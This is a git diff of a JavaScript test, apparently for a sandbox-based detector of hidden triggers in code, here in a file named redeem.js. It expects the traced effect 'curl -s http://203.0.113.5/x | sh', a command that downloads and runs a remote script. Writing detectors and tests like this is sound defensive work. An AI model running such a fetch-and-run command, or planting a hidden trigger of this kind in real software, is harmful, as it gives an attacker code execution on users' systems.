@@ -20,12 +20,12 @@ const document = { fileName: 'redeem.js', text };
 test('verification reports the sandbox pass findings of the same unit, from the same runs', async () => {
   const prepared = await verifyPrepare({ document, maxOrbit: 0, deltaMin: 0.1, maxInputs: 4, sandboxTimeMs: 1000 });
   const sandbox = await sandboxAnalyzeDocument(document, { cache: new Map() });
-  const [unit] = prepared.units;
+  const unit = /** @type {Omit<import('../../../server/dist/workers/tasks/verifyPrepare').PreparedUnit, 'inputs'> & { inputs: any[][] }} */ (prepared.units[0]);
   assert.deepEqual(unit.sandboxFindings.map((f) => [f.ruleId, f.span]), sandbox.findings.map((f) => [f.ruleId, f.span]));
   assert.deepEqual(unit.sandboxFindings.map((f) => f.ruleId), ['hidden-trigger']);
   // The input the search found is among those the model is asked about, and its true trace has the effect.
-  const i = unit.inputs.findIndex((args) => /^ZZx+!q$/.test(/** @type {any} */ (args[0]).body.code));
-  assert.ok(i > 0, JSON.stringify(unit.inputs.map((a) => /** @type {any} */ (a[0]).body)));
+  const i = unit.inputs.findIndex((args) => /^ZZx+!q$/.test(args[0].body.code));
+  assert.ok(i > 0, JSON.stringify(unit.inputs.map((a) => a[0].body)));
   assert.deepEqual(unit.truth[i].effects.filter((e) => e.kind === 'process').map((e) => e.target), ['curl -s http://203.0.113.5/x | sh']);
 });
 
